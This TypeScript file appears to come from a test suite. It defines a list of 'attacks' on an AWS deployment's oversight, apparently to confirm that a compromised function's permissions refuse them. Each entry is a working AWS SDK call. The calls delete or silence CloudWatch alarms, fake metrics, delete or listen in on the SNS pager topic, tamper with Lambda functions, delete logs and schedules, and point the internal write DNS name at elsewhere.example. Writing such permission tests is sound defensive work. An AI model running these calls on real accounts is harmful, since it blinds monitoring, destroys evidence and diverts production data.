import {
  DeleteAlarmsCommand,
  DisableAlarmActionsCommand,
  PutMetricAlarmCommand,
  PutMetricDataCommand,
  SetAlarmStateCommand,
} from '@aws-sdk/client-cloudwatch'
import { DeleteLogGroupCommand, PutRetentionPolicyCommand } from '@aws-sdk/client-cloudwatch-logs'
import {
  InvokeCommand,
  type LambdaClient,
  PublishVersionCommand,
  PutFunctionConcurrencyCommand,
  UpdateAliasCommand,
  UpdateFunctionConfigurationCommand,
} from '@aws-sdk/client-lambda'
import { ChangeResourceRecordSetsCommand, DeleteHostedZoneCommand } from '@aws-sdk/client-route-53'
import { DeleteScheduleCommand } from '@aws-sdk/client-scheduler'
import {
  DeleteTopicCommand,
  PublishCommand,
  SetTopicAttributesCommand,
  SubscribeCommand,
  UnsubscribeCommand,
} from '@aws-sdk/client-sns'
import { type Attack, attack } from './attack.ts'

const ALARMS: Attack[] = [
  attack('delete an alarm', ({ cloudwatch }, { alarm }) =>
    cloudwatch.send(new DeleteAlarmsCommand({ AlarmNames: [alarm] })),
  ),
  attack('silence an alarm', ({ cloudwatch }, { alarm }) =>
    cloudwatch.send(new DisableAlarmActionsCommand({ AlarmNames: [alarm] })),
  ),
  attack('calm an alarm', ({ cloudwatch }, { alarm }) =>
    cloudwatch.send(new SetAlarmStateCommand({ AlarmName: alarm, StateValue: 'OK', StateReason: 'x' })),
  ),
  attack('blunt an alarm', ({ cloudwatch }, { alarm }) =>
    cloudwatch.send(
      new PutMetricAlarmCommand({
        AlarmName: alarm,
        ComparisonOperator: 'GreaterThanThreshold',
        EvaluationPeriods: 1,
        MetricName: 'x',
        Namespace: 'x',
        Period: 60,
        Statistic: 'Sum',
        Threshold: 1e9,
      }),
    ),
  ),
  attack('make figures up', ({ cloudwatch }) =>
    cloudwatch.send(
      new PutMetricDataCommand({
        Namespace: 'AWS/RDS',
        MetricData: [{ MetricName: 'FreeStorageSpace', Value: 1 }],
      }),
    ),
  ),
]

const TOPICS: Attack[] = [
  attack('delete the pages', ({ sns }, { pages }) => sns.send(new DeleteTopicCommand({ TopicArn: pages }))),
  attack('unsubscribe the pager', ({ sns }, { subscription }) =>
    sns.send(new UnsubscribeCommand({ SubscriptionArn: subscription })),
  ),
  attack('close the pages', ({ sns }, { pages }) =>
    sns.send(
      new SetTopicAttributesCommand({ TopicArn: pages, AttributeName: 'Policy', AttributeValue: '{}' }),
    ),
  ),
  attack('listen to the pages', ({ sns }, { pages }) =>
    sns.send(new SubscribeCommand({ TopicArn: pages, Protocol: 'email', Endpoint: 'attack@shop.example' })),
  ),
  attack('page for nothing', ({ sns }, { pages }) =>
    sns.send(new PublishCommand({ TopicArn: pages, Message: 'x' })),
  ),
]

/** Tries every function, the thief’s own among them; ends with the last refusal, or with the first success. */
const everyFunction =
  (strike: (lambda: LambdaClient, FunctionName: string) => Promise<unknown>): Attack['strike'] =>
  async ({ lambda }, { functionNames }) => {
    let refusal: unknown = new Error('no function')
    for (const name of functionNames) {
      try {
        return await strike(lambda, name)
      } catch (error) {
        refusal = error
      }
    }
    throw refusal
  }

const FUNCTIONS: Attack[] = [
  attack(
    'throttle a function',
    everyFunction((lambda, FunctionName) =>
      lambda.send(new PutFunctionConcurrencyCommand({ FunctionName, ReservedConcurrentExecutions: 0 })),
    ),
  ),
  attack(
    'change a function’s settings',
    everyFunction((lambda, FunctionName) =>
      lambda.send(new UpdateFunctionConfigurationCommand({ FunctionName, Timeout: 1 })),
    ),
  ),
  attack(
    'publish another version',
    everyFunction((lambda, FunctionName) => lambda.send(new PublishVersionCommand({ FunctionName }))),
  ),
  attack(
    'turn the alias elsewhere',
    everyFunction((lambda, FunctionName) =>
      lambda.send(new UpdateAliasCommand({ FunctionName, Name: 'live', FunctionVersion: '1' })),
    ),
  ),
  attack(
    'run a function’s unpublished code',
    everyFunction((lambda, FunctionName) =>
      lambda.send(new InvokeCommand({ FunctionName, InvocationType: 'DryRun' })),
    ),
  ),
]

const SILENCE: Attack[] = [
  attack('delete a schedule', ({ scheduler }, { schedule }) =>
    scheduler.send(new DeleteScheduleCommand({ GroupName: 'shop-prod', Name: schedule })),
  ),
  attack('delete a log', ({ logs }, { logGroup }) =>
    logs.send(new DeleteLogGroupCommand({ logGroupName: logGroup })),
  ),
  attack('shorten a log', ({ logs }, { logGroup }) =>
    logs.send(new PutRetentionPolicyCommand({ logGroupName: logGroup, retentionInDays: 1 })),
  ),
  attack('lead the writers elsewhere', ({ route53 }, { zone }) =>
    route53.send(
      new ChangeResourceRecordSetsCommand({
        HostedZoneId: zone,
        ChangeBatch: {
          Changes: [
            {
              Action: 'UPSERT',
              ResourceRecordSet: {
                Name: 'write.shop-prod.internal',
                Type: 'CNAME',
                TTL: 5,
                ResourceRecords: [{ Value: 'elsewhere.example' }],
              },
            },
          ],
        },
      }),
    ),
  ),
  attack('delete the names', ({ route53 }, { zone }) =>
    route53.send(new DeleteHostedZoneCommand({ Id: zone })),
  ),
]

/** On what watches, pages and runs. */
export const ON_WATCH: readonly Attack[] = [...ALARMS, ...TOPICS, ...FUNCTIONS, ...SILENCE]
